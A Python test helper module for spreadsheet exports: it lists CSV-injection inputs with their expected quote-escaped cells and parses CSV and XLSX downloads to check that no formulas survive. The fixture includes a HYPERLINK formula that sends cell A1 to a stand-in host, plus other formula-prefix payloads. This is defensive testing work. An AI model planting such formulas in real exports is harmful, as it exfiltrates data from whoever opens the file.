"""Hostile spreadsheet cells and how a spreadsheet program reads the exports, for the tests
of every CSV and XLSX export."""

import csv
import io

from openpyxl import load_workbook

BOM = b"\xef\xbb\xbf"

# Text typed by a user -> the cell an export must write: a leading quote makes spreadsheet
# programs read it as text instead of running it (OWASP, "CSV Injection").
HOSTILE_CELLS = {
    '=HYPERLINK("https://exemple.org/?d="&A1;"Cliquez")': (
        '\'=HYPERLINK("https://exemple.org/?d="&A1;"Cliquez")'
    ),
    "+1": "'+1",
    "-2+3": "'-2+3",
    "@SUM(A1:A9)": "'@SUM(A1:A9)",
    "\t=1+1": "'\t=1+1",
    "\r=1+1": "'\r=1+1",
    " =1+1": "' =1+1",
    "-2": "'-2",  # a negative number typed as text stays the text that was typed
    "Guide de l'accueil": "Guide de l'accueil",
}


def download(response) -> bytes:
    return b"".join(response.streaming_content) if response.streaming else response.content


def csv_rows(response) -> list[list[str]]:
    """The cells of a CSV download, as French Excel reads them: UTF-8 after a byte order
    mark, semicolon-separated."""
    content = download(response)
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert content.startswith(BOM)
    return list(csv.reader(io.StringIO(content[len(BOM) :].decode("utf-8")), delimiter=";"))


def xlsx_values(response) -> list[tuple]:
    """The values of every cell of the first sheet of an XLSX download, and checks that
    none of them is a formula."""
    workbook = load_workbook(io.BytesIO(download(response)))
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", f"{cell.coordinate} is a formula: {cell.value!r}"
    return list(workbook.worksheets[0].iter_rows(values_only=True))
